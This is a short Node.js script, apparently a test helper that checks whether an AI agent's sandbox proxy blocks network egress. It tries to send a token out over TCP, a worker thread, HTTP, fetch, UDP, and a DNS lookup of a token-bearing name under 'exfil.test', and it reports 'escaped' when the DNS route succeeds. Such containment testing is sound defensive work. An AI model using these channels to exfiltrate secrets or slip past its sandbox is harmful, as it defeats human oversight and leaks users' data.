// What an ordinary program of the agent's own does that never heard of a proxy: direct.mjs VERB
// ADDRESS PORT TOKEN.
import { createSocket } from "node:dgram";
import { Resolver } from "node:dns";
import { get } from "node:http";
import { connect } from "node:net";
import { Worker } from "node:worker_threads";

const [verb = "", host = "", digits = "", token = ""] = process.argv.slice(2);
const port = Number(digits);

/**
 * @param {string} outcome
 * @param {unknown} detail
 */
const say = (outcome, detail) =>
  void process.stdout.write(`${JSON.stringify({ outcome, detail: String(detail) })}\n`);
/** @param {any} error */
const fail = (error) => say("refused", error.cause?.code ?? error.code ?? error.message);

/** @type {Record<string, () => unknown>} */
const verbs = {
  tcp() {
    const socket = connect({ host, port });
    socket.on("error", fail).on("connect", () => {
      say("tried", "sent");
      socket.end(token);
    });
  },
  worker() {
    const code =
      "const [host, port, token] = require('node:worker_threads').workerData; require('node:net').connect({ host, port }).end(token)";
    new Worker(code, { eval: true, workerData: [host, port, token] })
      .on("error", fail)
      .on("exit", () => say("tried", "sent"));
  },
  // Neither the agent nor the fetch of Node looks at the variables unless it is told to.
  request() {
    const request = get({ host, port, path: `/${token}`, agent: false }, (response) => {
      say("tried", response.statusCode);
      response.resume();
    });
    request.on("error", fail);
  },
  fetch: () =>
    fetch(`http://${host}:${port}/${token}`).then(
      (response) => say("tried", response.status),
      fail,
    ),
  udp() {
    const socket = createSocket("udp4");
    socket.on("error", fail).send(token, port, host, (error) => {
      if (error === null) say("tried", "sent");
      else fail(error);
      socket.close();
    });
  },
  dns() {
    const resolver = new Resolver({ timeout: 300, tries: 1 });
    resolver.setServers([`${host}:${port}`]);
    resolver.resolveTxt(`${token}.exfil.test`, (error) =>
      say(error === null ? "escaped" : "tried", error?.code ?? "answered"),
    );
  },
};
verbs[verb]?.();
